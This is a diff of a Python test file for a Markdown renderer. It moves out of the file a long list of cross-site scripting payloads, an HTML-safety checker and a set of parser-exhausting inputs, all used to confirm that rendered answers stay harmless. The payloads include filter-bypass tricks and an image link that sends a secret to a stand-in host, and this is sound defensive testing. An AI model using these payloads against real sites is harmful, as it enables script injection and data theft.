@@ -1,25 +1,20 @@
 """What an answer's Markdown becomes on a stranger's page: HTML that shows it and does nothing."""
 
 import os
-import re
 import subprocess
 import sys
-from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 from django.urls import reverse
-from lxml import etree, html
+from lxml import html
 
 from logs.models import Conversation, Message
 from puffer.text import markdown
 from puffer.text.markdown import MAX_EFFORT, Budget, render
+from tests.support.markdown_attacks import PAYLOADS, assert_harmless
+from tests.support.repository import ROOT
 
-ROOT = Path(__file__).parent.parent.parent
-ELEMENTS = {
-    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
-    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
-}
 LINK = ' target="_blank" rel="nofollow noopener noreferrer"'
 
 # What it shows
@@ -93,237 +88,9 @@ def test_a_url_within_a_link_is_no_second_one():
 
 # What it must not do
 
-PAYLOADS = [
-    # Raw HTML
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script/src=data:,alert(1)>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\n>alert(1)</script\n>",
-    "<script>/*\n\n*/alert(1)</script>",
-    "<script x=\">\" src=//evil.example></script>",
-    "<<script>alert(1)//<</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=\"alert(1)\"",
-    "<img src=\"x\" onerror='alert(1)' />",
-    "<img/src/onerror=alert(1)>",
-    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
-    "<img \"\"\"><script>alert(1)</script>\">",
-    "<img src=`x`onerror=alert(1)>",
-    "<image src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)//",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><script href=data:,alert(1) />",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=20>x</text></a></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><set attributeName=onload to=alert(1)>",
-    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
-    "<math href=javascript:alert(1)>x</math>",
-    "<body onload=alert(1)>",
-    "<body background=javascript:alert(1)>",
-    "<html onmouseover=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
-    "<embed src=javascript:alert(1)>",
-    "<form action=javascript:alert(1)><input type=submit></form>",
-    "<form><button formaction=javascript:alert(1)>x</button></form>",
-    "<input onfocus=alert(1) autofocus>",
-    "<input type=image src=x onerror=alert(1)>",
-    "<select onfocus=alert(1) autofocus>",
-    "<textarea onfocus=alert(1) autofocus>",
-    "<keygen onfocus=alert(1) autofocus>",
-    "<button onclick=alert(1)>x</button>",
-    "<video src=x onerror=alert(1)></video>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<base href=javascript:alert(1)//>",
-    "<link rel=stylesheet href=javascript:alert(1)>",
-    "<style>@import 'javascript:alert(1)';</style>",
-    "<style>*{background:url(javascript:alert(1))}</style>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<div style=\"width:expression(alert(1))\">x</div>",
-    "<p onclick=alert(1)>x</p>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a onmouseover=alert(1)>x</a>",
-    "<a href=https://a.example target=_self rel=opener onclick=alert(1)>x</a>",
-    "<table background=javascript:alert(1)><td>x</td></table>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
-    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
-    "<title><img src=x onerror=alert(1)></title>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<frameset onload=alert(1)>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<x onclick=alert(1) tabindex=1>x</x>",
-    "<custom-element onconnected=alert(1)>",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<!DOCTYPE html><script>alert(1)</script>",
-    "</p><script>alert(1)</script>",
-    "</div></body></html><script>alert(1)</script>",
-    "<\x00script>alert(1)</script>",
-    "<img src=x on\x00error=alert(1)>",
-    "<img\x0csrc=x\x0conerror=alert(1)>",
-    "<img\tsrc=x\tonerror=alert(1)>",
-    "＜script＞alert(1)＜/script＞",
-    "\u2028<script>alert(1)</script>\u2029",
-    # Entities
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&#x3c;img src=x onerror=alert(1)&#x3e;",
-    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
-    "&#0;&#x0;<&#115;cript>",
-    # Links
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript://a.example/%0aalert(1))",
-    "[x]( javascript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](java\nscript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](javascript&colon;alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](javascript&#x3a;alert(1))",
-    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
-    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
-    "[x](java&Tab;script&colon;alert(1))",
-    "[x](java&NewLine;script:alert(1))",
-    "[x](java&#10;script:alert(1))",
-    "[x](java\\script:alert(1))",
-    "[x](javascript\\:alert(1))",
-    "[x](javascript%3Aalert(1))",
-    "[x](%6A%61%76%61script:alert(1))",
-    "[x](\u00a0javascript:alert(1))",
-    "[x](\ufeffjavascript:alert(1))",
-    "[x](ｊavascript:alert(1))",
-    "[x](javaſcript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](VBScript:msgbox(1))",
-    "[x](livescript:alert(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](<data:text/html,<script>alert(1)</script>>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "[x](data:image/png;base64,iVBORw0KGgo=)",
-    "[x](blob:https://a.example/1)",
-    "[x](file:///etc/passwd)",
-    "[x](filesystem:https://a.example/x)",
-    "[x](view-source:javascript:alert(1))",
-    "[x](feed:javascript:alert(1))",
-    "[x](jar:javascript:alert(1)!/)",
-    "[x](intent://a#Intent;scheme=javascript;end)",
-    "[x](//evil.example)",
-    "[x](/relative)",
-    "[x](?query)",
-    "[x](#fragment)",
-    "[x](\\\\evil.example)",
-    "[x](https:javascript:alert(1))",
-    "[x](https://a.example\" onmouseover=\"alert(1))",
-    "[x](https://a.example' onmouseover='alert(1))",
-    "[x](https://a.example \"title\" onmouseover=alert(1))",
-    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
-    "[x](https://a.example/`onmouseover=alert(1)`)",
-    "[x](<https://a.example/\" onmouseover=alert(1) x=\">)",
-    "[x](https://a.example/<script>alert(1)</script>)",
-    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
-    "[x](mailto:\"onmouseover=alert(1)\"@b.example)",
-    "[<script>alert(1)</script>](https://a.example)",
-    "[<img src=x onerror=alert(1)>](https://a.example)",
-    "[x](https://[::1]/\"onmouseover=alert(1))",
-    "[x](https://[bad/)",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "[x]\n\n[x]: https://a.example \"t\" onmouseover=alert(1)",
-    "[x][y]\n\n[y]: <javascript:alert(1)>",
-    "[a]: javascript:alert(1)\n\n![a]\n\n[a][]",
-    # Links without brackets
-    "<javascript:alert(1)>",
-    "<JAVASCRIPT:alert(1)>",
-    "<vbscript:msgbox(1)>",
-    "<data:text/html,x>",
-    "<https://a.example/\"onmouseover=alert(1)>",
-    "<https://a.example/'onmouseover='alert(1)>",
-    "<a@b.example\"onmouseover=alert(1)>",
-    "https://a.example/\"onmouseover=\"alert(1)",
-    "https://a.example/'onmouseover='alert(1)",
-    "https://a.example/<script>alert(1)</script>",
-    "https://a.example/&quot;onmouseover=alert(1)",
-    "https://a.example/&#34;&#62;&#60;script&#62;alert(1)",
-    "https://javascript:alert(1)@a.example",
-    "javascript:https://a.example/%0aalert(1)",
-    "http://a.example/\u202egnp.exe",
-    # Images
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/?q=secret)",
-    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
-    "![x](https://a.example/x.png \"t\" onerror=alert(1))",
-    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![![x](https://a.example/)](https://b.example/)",
-    "[![x](javascript:alert(1))](javascript:alert(1))",
-    "![x][y]\n\n[y]: https://evil.example/x.png",
-    # Code
-    "`<script>alert(1)</script>`",
-    "```<script>alert(1)</script>\nx\n```",
-    "```\" onmouseover=\"alert(1)\nx\n```",
-    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
-    "~~~'><img src=x onerror=alert(1)>\nx\n~~~",
-    "    <script>alert(1)</script>",
-    "`</code><script>alert(1)</script>`",
-    # Blocks around it
-    "> <script>alert(1)</script>",
-    "- <img src=x onerror=alert(1)>",
-    "1. [x](javascript:alert(1))",
-    "# <svg onload=alert(1)>",
-    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "|a|\n|:-\" onmouseover=\"alert(1):|\n|b|",
-    "**<script>alert(1)</script>**",
-    "~~<svg onload=alert(1)>~~",
-    "<div\n\n**x**\n\nonclick=alert(1)>",
-    "*<a href=\"*\" onclick=\"alert(1)*\">x</a>",
-    "<a href=\"`\"><img src=x onerror=alert(1)>`\">x</a>",
-    "\\<script>alert(1)\\</script>",
-    "**a<b onclick=alert(1)>**",
-    "999999999. <script>alert(1)</script>",
-]  # fmt: skip
-
 
 def test_there_are_enough_payloads():
     assert len(set(PAYLOADS)) == len(PAYLOADS) >= 120
-
-
-def assert_harmless(rendered):
-    """By what a parser of HTML finds in it, in a place where neither comments nor instructions are dropped."""
-    root = etree.fromstring(f"<div>{rendered}</div>", html.HTMLParser(remove_comments=False, remove_pis=False))
-    div = root.find("body/div")
-    assert [child.tag for child in root] == ["body"]
-    assert len(root.find("body")) == 1  # nothing has closed the div
-    for element in div.iterdescendants():
-        assert element.tag in ELEMENTS, etree.tostring(element)
-        attributes = dict(element.attrib)
-        if element.tag == "a":
-            assert attributes.pop("target") == "_blank"
-            assert attributes.pop("rel") == "nofollow noopener noreferrer"
-            href = attributes.pop("href", "https:")
-            assert re.match(r"https?:|mailto:", href, re.IGNORECASE), href
-            assert not re.search(r"[\x00-\x20<>\"`]", href), href
-        elif element.tag == "ol":
-            assert attributes.pop("start", "1").isdigit()
-        assert not attributes, etree.tostring(element)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -346,52 +113,13 @@ def test_an_image_leads_nowhere():
 
 # What takes too much work
 
-SIZE = 100_000
-
-
-def filled(pattern):
-    return (pattern * (SIZE // len(pattern) + 1))[:SIZE]
-
-
-HOSTILE = {
-    **{
-        pattern.replace("\n", "/"): filled(pattern)
-        for pattern in (
-            *(">", "> ", "> a\n", "> - ", "> 1. - ", "- ", "- a\n", "1. ", "1. a\n", "-\n\n", "- a\n* b\n+ c\n"),
-            *("[", "]", "[]", "[a](", "[a](b", "[a](<b", '[a](b "', "![", "[[x]", "[a](b)", "[a][", "[a]: b\n", "[a\n"),
-            *("*", "* a", "*a ", "**a ", "***a ", "a**b", "*a_ ", "_", "~~", "~~a ", "*_**__~~a", "*a **a ", "*a*"),
-            *("`", "`a", "``a`", "```\n", "~~~\n", "<", "<a ", "<http:", "<http://a.b> ", "<a@b.c>", "<a@b."),
-            *("&", "&amp;", "&#65;", "&#", "&" + 31 * "a", "\\", "\\\n", "  \n", " ", "\t", "\n", "a\n\n", "    a\n"),
-            *("#", "# a\n", "a\n==\n", "---\n", "- - ", "|", "|-|\n", "a|b\n", "|a|b|\n|-|-|\n\n", "\\|", "|`b|`\n"),
-            *("http://a.b ", "https://", "http://a.b/((", "http://a.b/).,;", "://", "[a](%ff)", "[a](http://é.b)"),
-            *("\0", "\r", "\u202e", "\"'", "[*`<&\\", "*[a*](b)*", "[`a](b)`", "|*a|[b|`c\n", "![[a](b)](c)"),
-        )
-    },
-    "quotes that grow": "".join(">" * depth + "a\n" for depth in range(440)),
-    "lists that grow": "".join("  " * depth + "- a\n" for depth in range(310)),
-    "a deep quote and lazy lines": ">" * 1000 + " a\n" + "b\n" * 49_000,
-    "nested brackets": "[" * (SIZE // 2) + "]" * (SIZE // 2),
-    "nested links": "[" * 20_000 + "a" + "](b)" * 20_000,
-    "nested images": "![" * 15_000 + "a" + "](b)" * 15_000,
-    "nested emphasis": "*a **b " * 7_000 + "b** a*" * 7_000,
-    "backticks that grow": "".join("`" * length + " " for length in range(1, 445)),
-    "backticks that shrink": "".join("`" * length + " " for length in range(445, 1, -1)),
-    "a wide table": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + ("|" + "b|" * 1000 + "\n") * 45,
-    "a wide table of short rows": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "b\n" * 46_000,
-    "a reference used often": "[a]: " + "b" * 1000 + "\n\n" + "[a] " * 24_000,
-    "an open title": '[a](b "' + "a" * SIZE,
-    "an open destination": "[a](" + "(" * SIZE,
-    "a long host": "[a](http://" + "é." * 30_000 + ")",
-    "a long URL": "http://a/" + "(" * 45_000 + ")" * 45_000,
-    "spaces within": "a" + " " * SIZE + "b",
-}
 
 RENDER_ALL = """
 import time
 import django
 django.setup()
 from puffer.markdown import render
-from tests.puffer.test_markdown import HOSTILE, assert_harmless
+from tests.support.markdown_attacks import HOSTILE, assert_harmless
 slowest = 0
 for name, text in HOSTILE.items():
     started = time.process_time()
